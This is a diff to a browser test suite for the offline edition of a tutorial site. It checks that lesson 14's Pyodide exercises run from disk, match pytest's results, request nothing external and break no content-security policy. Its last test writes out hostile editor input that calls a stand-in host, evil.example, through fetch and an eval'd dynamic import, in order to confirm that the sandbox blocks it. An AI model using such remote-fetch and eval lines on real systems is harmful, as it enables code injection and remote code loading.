@@ -1,7 +1,8 @@
 """The offline edition (lessonkit.site.offline), unzipped and opened from disk in Debian's Chromium:
 links land on pages, search answers a typed query, formulas and figures render, the source
-browser's line links work, and the pages request nothing but their own files (and the search
-worker's blob: URL, made in the page) with 0 Content-Security-Policy violations.
+browser's line links work, Mini's exercises run (lessonkit.site.offline_runtime) and report what
+pytest reports, and the pages request nothing but their own files (and the blob: URLs of the
+search worker and the exercise worker, made in the page) with 0 Content-Security-Policy violations.
 
 The zip is the one the session's real build wrote into its site; the home page links it with
 its size."""
@@ -11,14 +12,19 @@ from __future__ import annotations
 import io
 import json
 import posixpath
+import sys
 import zipfile
 from pathlib import Path
 from urllib.parse import urlsplit
 
 import pytest
 
-from lessonkit.site import offline
+from lessonkit.site import offline, offline_runtime
 from lessonkit.util import markup
+
+sys.path.insert(0, str(Path(__file__).parent))
+from test_browser_exercise import by_pytest  # noqa: E402, F401 - the fixture, asked for by name below
+from test_exercise_runner import EXERCISES, FIXES, MINI, STAGES, one_function_fixed  # noqa: E402
 
 ZIP = "downloads/autograd-offline.zip"
 TOP = "autograd-offline"
@@ -194,14 +200,114 @@ def test_no_page_of_the_edition_breaks_its_policy_or_requests_anything_else(edit
     assert len(pages) > 100 and broken == {}
 
 
-def test_an_exercise_of_the_edition_says_it_does_not_run_and_loads_nothing(edition, tab):
-    tab.goto((edition / "lessons/14-mini-autograd/index.html").as_uri(), wait_until="load")
-    tab.wait_for_timeout(500)
-    blocks = tab.locator(".lk-exercise-offline")
-    assert blocks.count() >= 5
-    note = blocks.first.locator("p.lk-ex-note").inner_text()
-    assert note.startswith("离线版不能运行这里的检查")
-    assert blocks.first.locator("button").count() == 0
-    assert tab.locator(".lk-exercise").count() == 0
-    assert [u for u in tab.requests if "pyodide" in u or "exercise/" in u] == []
-    assert _violations(tab) == []
+LESSON = "lessons/14-mini-autograd/index.html"
+
+
+class OfflineReader:
+    """Lesson 14 of the edition opened from disk: every request of the page and its workers, the
+    policy violations the page and the workers report, console errors."""
+
+    def __init__(self, browser, edition: Path):
+        self.context = browser.new_context(viewport={"width": 1280, "height": 900})
+        self.context.add_init_script(RECORD)
+        self.requests: list[str] = []
+        self.messages: list[tuple[str, str]] = []
+        self.context.on("request", lambda r: self.requests.append(r.url))
+        self.page = self.context.new_page()
+        self.page.on("console", lambda m: self.messages.append((m.type, m.text)))
+        self.page.on("pageerror", lambda e: self.messages.append(("pageerror", str(e))))
+        self.page.on("worker", lambda w: w.on("console", lambda m: self.messages.append(("worker " + m.type, m.text))))
+        self.page.goto((edition / LESSON).as_uri(), wait_until="load")
+        self.page.wait_for_function("document.querySelector('.lk-exercise') && window.lessonkitExercise")
+
+    def block(self, stage: int):
+        return self.page.locator(f"#exercise-stage_{stage}")
+
+    def run(self, stage: int, text: str | None) -> dict[str, str]:
+        b = self.block(stage)
+        if text is not None:
+            b.locator("textarea").fill(text)
+        b.locator('[data-lk-action="run"]').click()
+        self.page.wait_for_function(
+            "el => !el.dataset.lkBusy",  # Run sets it at once; the outcome, a failure or Stop clears it
+            arg=b.element_handle(),
+            timeout=300000,
+        )
+        assert b.locator(".lk-ex-summary").count() == 1, b.locator(".lk-ex-result").inner_text()
+        return {
+            li.get_attribute("data-test"): li.get_attribute("data-outcome") for li in b.locator("li.lk-ex-test").all()
+        }
+
+    def elsewhere(self) -> list[str]:
+        """Requests for anything but the edition's files and the blob: URLs the page made."""
+        return [u for u in self.requests if not u.startswith(("file://", "blob:null/"))]
+
+    def violations(self) -> list:
+        said = [m for m in self.messages if m[0].endswith(("error", "warning")) or "Content Security" in m[1]]
+        return self.page.evaluate("window.__csp") + said
+
+
+@pytest.fixture(scope="module")
+def offline_reader(browser, edition):
+    r = OfflineReader(browser, edition)
+    yield r
+    r.context.close()
+
+
+def test_an_exercise_of_the_edition_says_what_its_first_run_reads_and_loads_nothing_before(edition, offline_reader):
+    parts = [edition / offline_runtime.OUT / name for name in offline_runtime.PARTS]
+    mb = f"{sum(p.stat().st_size for p in parts) / 1048576:.1f}"
+    assert float(mb) > 10
+    tab = offline_reader.page
+    blocks = tab.locator(".lk-exercise")
+    assert blocks.count() == len(STAGES) and tab.locator(".lk-exercise-offline").count() == 0
+    for k in range(len(STAGES)):
+        note = blocks.nth(k).locator("p.lk-ex-note").inner_text()
+        assert note.startswith("离线版也能在本浏览器里运行这些检查") and f"（Pyodide，{mb} MB，只读一次）" in note
+        assert blocks.nth(k).get_attribute("data-lk-size") == mb
+    # the editor is the repository's starting file; nothing of the runtime is read before Run
+    assert blocks.first.locator("textarea").input_value() == (EXERCISES / "stage_1.py").read_text(encoding="utf-8")
+    assert [u for u in offline_reader.requests if "pyodide" in u] == []
+    assert any(u.endswith("/assets/exercise/exercise.js") for u in offline_reader.requests)
+    assert offline_reader.elsewhere() == [] and offline_reader.violations() == []
+
+
+@pytest.mark.parametrize("stage", STAGES)
+def test_each_stage_runs_from_disk_and_reports_what_pytest_reports(edition, offline_reader, request, stage):
+    """As the site's test (test_browser_exercise) asserts: the starting file fails every check that
+    runs, Mini passes every one, one completed function passes exactly its checks."""
+    reported = request.getfixturevalue("by_pytest")  # the site's test's fixture: what real pytest reports
+
+    def expected(variant):
+        return {t: o for (s, t), o in reported[variant].items() if s == stage}
+
+    shipped = offline_reader.run(stage, None)
+    assert shipped == expected("shipped")
+    assert set(shipped.values()) == {"failed", "skipped"}
+    reads = [u for u in offline_reader.requests if "/pyodide/" in u]
+    assert reads == [(edition / offline_runtime.OUT / n).as_uri() for n in offline_runtime.PARTS]  # once
+    reference = offline_reader.run(stage, MINI.read_text(encoding="utf-8"))
+    assert reference == expected("reference")
+    assert set(reference.values()) == {"passed", "skipped"}
+    if stage in FIXES:
+        name, want = FIXES[stage]
+        fixed = offline_reader.run(stage, one_function_fixed(stage, name))
+        assert fixed == expected("fixed")
+        passed = {t for t, o in fixed.items() if o == "passed"}
+        ran = {t for t, o in fixed.items() if o != "skipped"}
+        assert passed == (ran if want == "every check that runs" else want)
+    assert offline_reader.elsewhere() == [] and offline_reader.violations() == []
+
+
+def test_code_in_the_editor_of_the_edition_reaches_no_other_host(offline_reader):
+    """The worker's fetch answers only the runtime's own files; eval is refused by the policy."""
+    hostile = (
+        (EXERCISES / "stage_1.py").read_text(encoding="utf-8")
+        + "\nimport js\n"
+        + "js.fetch('http://evil.example/fetched')\n"
+        + "js.eval(\"import('http://evil.example/imported.js')\")\n"
+    )
+    offline_reader.run(1, hostile)
+    offline_reader.page.wait_for_timeout(1000)
+    assert offline_reader.elsewhere() == []
+    offline_reader.block(1).locator('[data-lk-action="reset"]').click()
